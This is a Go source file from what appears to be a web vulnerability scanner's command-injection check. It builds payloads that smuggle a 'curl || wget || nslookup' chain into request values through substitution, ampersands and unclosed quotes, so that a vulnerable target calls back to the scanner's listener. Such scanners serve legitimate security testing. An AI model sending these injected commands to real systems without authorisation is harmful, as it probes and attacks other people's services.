package commandinjection

import (
	"merlon/internal/engine/dast/activescan"
	"merlon/internal/engine/dast/message"
)

// This file proves commands by a call to a listener of ours, where nothing of their
// output is shown.

// requestCommand is a command that asks for the OAST payload with a program that most systems have, in a
// form that shells of Unix and cmd of Windows both understand.
func requestCommand(b activescan.OASTPayload) string {
	command := "curl -m 3 " + b.URL + "||wget -T 3 -qO- " + b.URL
	if b.Host != "" {
		command += "||nslookup " + b.Host
	}
	return "(" + command + ")"
}

// calling are the forms that call: behind an ampersand, which ends a command in every
// shell, in a substitution for values between quotes that are not closed, and in the place
// of the whole command.
var calling = []func(v string, b activescan.OASTPayload) string{
	func(v string, b activescan.OASTPayload) string {
		return v + "$" + requestCommand(b) + closeQuotes("&", " ")("", requestCommand(b))
	},
	func(v string, b activescan.OASTPayload) string { return replaceValue(v, "curl -m 3 "+b.URL) },
}

// probeOAST makes the target ask our listener, if there is one.
func probeOAST(p *activescan.Probe) (found bool, err error) {
	for _, form := range calling {
		called, err := p.SendOAST(func(bait func() activescan.OASTPayload) (*message.Request,
			[]activescan.ExpectedInteraction) {
			b := bait()
			payload := form(p.OriginalValue(), b)
			return p.Request.With(p.Point, payload),
				[]activescan.ExpectedInteraction{{OASTPayload: b, Rule: byCall, Point: &p.Point, Payload: payload,
					FoundMark: Mark,
					Proof:     "The value contains a command that requests a URL of the OAST listener."}}
		})
		if called || err != nil {
			return called, err
		}
	}
	return false, nil
}
